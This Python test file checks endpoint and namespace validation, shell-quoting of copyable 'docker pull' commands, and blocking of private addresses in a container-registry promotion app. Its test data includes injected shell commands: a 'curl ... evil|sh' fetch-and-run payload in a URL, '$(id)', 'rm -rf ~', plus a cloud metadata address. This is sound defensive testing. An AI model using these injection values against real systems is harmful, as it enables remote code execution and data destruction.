"""Issue 11, item 3 and the weak spots around endpoints: an endpoint is scheme://host[:port]
and nothing else, every displayed command is shell-quoted, private addresses can be
forbidden, manifests never follow redirects, and unreachable means one generic message."""

from __future__ import annotations

import html
import re
import shlex

import pytest
import requests
from django.contrib.auth import get_user_model
from django.utils import timezone

from promoter.errors import Invalid
from registries.models import Promotion, Registry, Repository, Tag
from registries.services.promotions import promotion_request
from tests.conftest import PASSWORD
from tests.security.conftest import admin, external, repo_name, small_image
from tests.support.net import free_port

EVIL = "https://registry.example.com/x;curl${IFS}-s${IFS}evil|sh;#"
NOT_ENDPOINTS = [
    EVIL,
    "https://registry.example.com/",
    "https://registry.example.com/v2",
    "https://user:pw@registry.example.com",
    "https://registry.example.com?x=1",
    "https://registry.example.com#x",
    "https://registry.example.com:99999",
    "https://$(id).example.com",
    "https://registry example.com",
    "ftp://registry.example.com",
    "registry.example.com",
]


@pytest.mark.parametrize("endpoint", NOT_ENDPOINTS)
def test_the_api_refuses_endpoints_that_are_not_scheme_host_port(demo, endpoint):
    answer = requests.post(
        f"{demo.url}/api/management/feeds/create",
        json={"name": "evil", "feedType": "docker", "endpoint": endpoint},
        auth=("Admin", PASSWORD),
        timeout=30,
    )
    # A trailing slash alone is forgiven (stripped); everything else is refused.
    if endpoint == "https://registry.example.com/":
        assert answer.status_code == 201, answer.text
        assert Registry.objects.get(name="evil").endpoint == "https://registry.example.com"
        return
    assert answer.status_code == 400, answer.text
    assert "endpoint" in answer.json()["error"]
    assert not Registry.objects.filter(name="evil").exists()


@pytest.mark.parametrize(
    "endpoint", ["https://registry.example.com", "http://10.1.2.3:5000", "https://[::1]:443"]
)
def test_plain_endpoints_are_accepted(demo, endpoint):
    answer = requests.post(
        f"{demo.url}/api/management/feeds/create",
        json={"name": "fine", "feedType": "docker", "endpoint": endpoint},
        auth=("Admin", PASSWORD),
        timeout=30,
    )
    assert answer.status_code == 201, answer.text


def test_the_manage_page_refuses_the_injection(demo, client):
    client.force_login(get_user_model().objects.get(username="Admin"))
    answer = client.post(
        "/registries/new", {"name": "evil", "usage_type": "general", "endpoint": EVIL}
    )
    assert answer.status_code == 400
    assert "scheme://host[:port]" in answer.content.decode()
    assert not Registry.objects.filter(name="evil").exists()


def test_displayed_commands_are_single_shell_words_even_for_a_stored_bad_endpoint(demo, client):
    registry = external("legacy", "https://registry.example.com")
    # A row from before the validation existed (written around it on purpose).
    Registry.objects.filter(pk=registry.pk).update(endpoint=EVIL)
    repo = Repository.objects.create(registry=registry, name="team/app")
    Tag.objects.create(
        repository=repo, name="1.0", digest="sha256:" + "a" * 64, pushed_at=timezone.now()
    )
    client.force_login(get_user_model().objects.get(username="Admin"))

    page = client.get("/registries/legacy/images/team/app:1.0")

    assert page.status_code == 200
    commands = [
        html.unescape(c) for c in re.findall(r'data-copy="([^"]*docker pull[^"]*)"', page.text)
    ]
    assert len(commands) == 2
    for command in commands:
        words = shlex.split(command)
        assert words[:2] == ["docker", "pull"] and len(words) == 3, command
        assert "curl${IFS}" in words[2]  # all of it is one (harmless) argument


def test_namespaces_are_repository_paths(demo):
    answer = requests.post(
        f"{demo.url}/api/management/feeds/create",
        json={
            "name": "ns",
            "feedType": "docker",
            "endpoint": "https://r.example.com",
            "namespace": "a;rm -rf ~",
        },
        auth=("Admin", PASSWORD),
        timeout=30,
    )
    assert answer.status_code == 400 and "namespace" in answer.json()["error"]


def test_private_endpoints_can_be_forbidden(demo, settings, hostile):
    repo = repo_name()
    small_image(hostile, repo)
    stored = external("inside", hostile.url)  # stored while it was allowed
    settings.PROMOTER_FORBID_PRIVATE_ENDPOINTS = True

    for endpoint in (
        hostile.url,
        "http://localhost:5000",
        "http://169.254.169.254",
        "http://[::1]",
    ):
        answer = requests.post(
            f"{demo.url}/api/management/feeds/create",
            json={"name": "metadata", "feedType": "docker", "endpoint": endpoint},
            auth=("Admin", PASSWORD),
            timeout=30,
        )
        assert answer.status_code == 400, (endpoint, answer.text)
        assert "loopback, private or link-local" in answer.json()["error"]

    # The stored one is refused on connection: no request reaches it.
    answer = requests.post(
        f"{demo.url}/api/promotions/promote",
        json={"packageName": repo, "version": "1.0", "fromFeed": "inside", "toFeed": "devdocker"},
        auth=("Admin", PASSWORD),
        timeout=30,
    )
    assert answer.status_code == 400
    assert "private" in answer.text
    assert hostile.seen() == []
    assert not Promotion.objects.filter(source=stored).exists()


def test_manifests_never_follow_redirects(demo, hostile):
    repo = repo_name()
    small_image(hostile, repo)
    hostile.redirect_manifests = True
    source = external("redirecting", hostile.url)

    with pytest.raises(Invalid, match="302"):
        promotion_request(
            source=source,
            repository=repo,
            tag="1.0",
            target=Registry.objects.get(name="devdocker"),
            actor=admin(),
        )
    assert hostile.seen(pattern="login.html") == []
    assert not Promotion.objects.filter(source=source).exists()


def test_unreachable_is_one_generic_message(demo, hostile):
    closed = external("closed", f"http://127.0.0.1:{free_port()}")
    answer = requests.post(
        f"{demo.url}/api/promotions/promote",
        json={
            "packageName": "team/app",
            "version": "1.0",
            "fromFeed": "closed",
            "toFeed": "devdocker",
        },
        auth=("Admin", PASSWORD),
        timeout=30,
    )
    assert answer.status_code == 400
    assert f"Registry at {closed.endpoint} is unreachable. Is it running" in answer.text
    assert "refused" not in answer.text.lower()
